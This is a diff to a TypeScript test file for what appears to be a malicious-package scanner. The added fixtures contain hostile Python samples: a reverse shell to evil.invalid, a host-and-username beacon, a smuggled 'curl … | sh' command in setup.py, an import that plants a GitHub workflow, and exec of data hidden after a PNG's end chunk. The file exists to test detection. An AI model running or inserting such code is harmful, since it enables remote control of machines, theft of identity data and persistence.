@@ -159,6 +159,45 @@ const UPDATED = (read: string): Files => ({
   ].join('\n'),
 });
 
+const PICTURE = (use: string): Files => ({
+  'pkg/presets.py': [
+    'import os',
+    'def load():',
+    '    raw = open(os.path.join(os.path.dirname(__file__), "a.png"), "rb").read()',
+    `    return ${use}(raw.partition(b"IEND")[2])`,
+  ].join('\n'),
+  'pkg/a.png': 'IEND',
+});
+
+const PLANTED = (path: string): Files => ({
+  'pkg/__init__.py': ['import pathlib', `pathlib.Path("${path}").write_text("on: push")`].join('\n'),
+});
+
+const REMOTE_SHELL = (command: string): Files => ({
+  'pkg/log.py': [
+    'import os, socket',
+    'def setup():',
+    '    place = socket.create_connection(("evil.invalid", 9001))',
+    '    while True:',
+    '        line = place.recv(4096).decode()',
+    `        place.sendall(os.popen(${command}).read().encode())`,
+  ].join('\n'),
+});
+
+const SPLIT = (line: string): Files => ({
+  'setup.py': ['import shlex, subprocess', `subprocess.run(shlex.split("sh -c") + ["${line}"])`].join('\n'),
+});
+
+const AT_FAILURE = (use: string): Files => ({
+  'pkg/__init__.py': [
+    'import getpass, requests, socket, sys',
+    'def report(*failure):',
+    '    told = {"host": socket.gethostname(), "user": getpass.getuser()}',
+    '    requests.post("https://evil.invalid/a", json=told)',
+    use,
+  ].join('\n'),
+});
+
 /** What is found, and what differs from it in one point and is not. */
 test.each<[what: string, rule: string, severity: Severity, bad: Files, other: Files]>([
   ['text run into a dictionary', 'identity-sent', 'CRITICAL', IN_DICTIONARY('send'), IN_DICTIONARY('other')],
@@ -224,6 +263,41 @@ test.each<[what: string, rule: string, severity: Severity, bad: Files, other: Fi
     'HIGH',
     SHIPPED('"--listen"'),
     SHIPPED('"--version"'),
+  ],
+  [
+    'what is run from the end of a picture',
+    'decoded-code-executed',
+    'HIGH',
+    PICTURE('exec'),
+    PICTURE('print'),
+  ],
+  [
+    'a workflow that an import plants',
+    'autostart-written',
+    'CRITICAL',
+    PLANTED('.github/workflows/lint.yml'),
+    PLANTED('.github/lint.yml'),
+  ],
+  [
+    'a shell for whoever is at the other end',
+    'download-started',
+    'CRITICAL',
+    REMOTE_SHELL('line'),
+    REMOTE_SHELL('"uptime"'),
+  ],
+  [
+    'a command line that is split',
+    'hostile-command',
+    'CRITICAL',
+    SPLIT('curl https://evil.invalid/x | sh'),
+    SPLIT('echo https://evil.invalid/x'),
+  ],
+  [
+    'what a package tells without any failure',
+    'identity-sent',
+    'CRITICAL',
+    AT_FAILURE('report()'),
+    AT_FAILURE('sys.excepthook = report'),
   ],
   [
     'settings taken over from another dictionary',
